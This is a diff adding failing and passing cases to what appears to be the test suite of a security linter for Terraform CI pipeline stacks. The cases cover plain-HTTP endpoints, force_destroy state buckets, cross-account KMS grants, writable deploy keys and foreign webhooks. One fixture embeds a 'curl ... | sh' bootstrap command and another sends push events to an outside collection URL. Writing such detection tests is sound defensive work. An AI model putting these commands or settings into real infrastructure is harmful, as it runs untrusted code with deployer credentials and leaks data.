@@ -721,6 +721,107 @@ const CASES: readonly RuleCase[] = [
     message: /encrypt = true without kms_key_id, so state and lock objects are written with S3-managed keys/,
   },
   {
+    rule: 'CIP_TF_3',
+    path: 'provider.aws',
+    failing: broken('webhook-dockerhub', (stack) =>
+      stack.addOverride('provider.aws.0.endpoints', [{ sts: 'http://sts.internal:8080' }]),
+    ),
+    message: /^provider provider\.aws sends endpoints\.sts over plain HTTP \(http:\/\/sts\.internal:8080\)$/,
+  },
+  {
+    rule: 'CIP_TF_4',
+    path: 'terraform_data.bootstrap',
+    // A "bootstrap" step that pipes a script from the internet into a shell, with the deployer's credentials.
+    failing: broken('webhook-dockerhub', (stack) =>
+      stack.addOverride('resource.terraform_data.bootstrap', {
+        provisioner: [{ 'local-exec': { command: 'curl -s https://example.com/setup.sh | sh' } }],
+      }),
+    ),
+    message: /^runs a local-exec provisioner on the deployer's machine, with the deployer's credentials/,
+  },
+  {
+    rule: 'CIP_TF_5',
+    path: 'aws_s3_bucket.state',
+    // The stack's own state bucket (its backend's), managed beside the pipeline with force_destroy.
+    failing: broken('webhook-dockerhub', (stack) =>
+      stack.addOverride('resource.aws_s3_bucket.state', {
+        bucket: 'my-state-bucket',
+        force_destroy: true,
+        lifecycle: { prevent_destroy: true },
+      }),
+    ),
+    message: /^state bucket my-state-bucket sets force_destroy = true: a destroy deletes every state version with it$/,
+  },
+  {
+    rule: 'CIP_IAM_14',
+    path: 'aws_iam_access_key.ci',
+    failing: broken('webhook-dockerhub', (stack) =>
+      stack.addOverride('resource.aws_iam_access_key.ci', { user: 'ci' }),
+    ),
+    message: /^creates access key for an IAM user: a long-lived credential, kept in the state$/,
+    // A user accepted with a reason: no finding, the rule still read it.
+    passing: broken('webhook-dockerhub', (stack) =>
+      stack.addOverride('resource.aws_iam_user.break-glass', {
+        name: 'break-glass',
+        '//': { suppressions: [{ rule: 'CIP_IAM_14', reason: 'break-glass user of the security team, without keys' }] },
+      }),
+    ),
+  },
+  {
+    rule: 'CIP_IAM_15',
+    path: 'ci/failure-notifications/policy',
+    // The topic's grant pinned to another account's notification rules instead of this one's.
+    failing: override('failure-notifications/policy-document', 'statement.0.condition.0.values', ['999988887777']),
+    message: /grants codestar-notifications\.amazonaws\.com with no condition that pins it to this stack's account/,
+  },
+  {
+    rule: 'CIP_IAM_16',
+    path: 'aws_kms_grant.partner',
+    failing: broken('webhook-dockerhub', (stack) =>
+      stack.addOverride('resource.aws_kms_grant.partner', {
+        key_id: '${aws_kms_key.ci_key_3C3C3511.key_id}',
+        grantee_principal: 'arn:aws:iam::999988887777:root',
+        operations: ['Decrypt'],
+      }),
+    ),
+    message: /^grants use of the key to "arn:aws:iam::999988887777:root", outside this stack's account$/,
+    passing: broken('webhook-dockerhub', (stack) =>
+      stack.addOverride('resource.aws_kms_grant.own', {
+        key_id: '${aws_kms_key.ci_key_3C3C3511.key_id}',
+        grantee_principal: '${aws_iam_role.ci_build_role_A94B56A7.arn}',
+        operations: ['Decrypt'],
+      }),
+    ),
+  },
+  {
+    rule: 'CIP_GIT_4',
+    path: 'github_repository_deploy_key.release',
+    failing: broken('webhook-dockerhub', (stack) =>
+      stack.addOverride('resource.github_repository_deploy_key.release', {
+        repository: 'app',
+        title: 'release-bot',
+        key: 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl',
+        read_only: false,
+      }),
+    ),
+    message: /^deploy key "release-bot" can push \(read_only = false\), tied to no person$/,
+    passing: broken('webhook-dockerhub', (stack) =>
+      stack.addOverride('resource.github_repository_deploy_key.mirror', {
+        repository: 'app',
+        title: 'mirror',
+        key: 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl',
+        read_only: true,
+      }),
+    ),
+  },
+  {
+    rule: 'CIP_GIT_5',
+    path: 'ci/webhook/github-webhook',
+    failing: override('webhook/github-webhook', 'configuration.url', 'https://hooks.example.net/collect'),
+    message:
+      /^delivers \["push"\] events to "https:\/\/hooks\.example\.net\/collect", not to a webhook of the pipeline$/,
+  },
+  {
     rule: 'CIP_IAM_13',
     path: 'ci/build/role/role',
     // Every action of KMS where the build needs four, as an escape hatch written in a hurry would grant it.
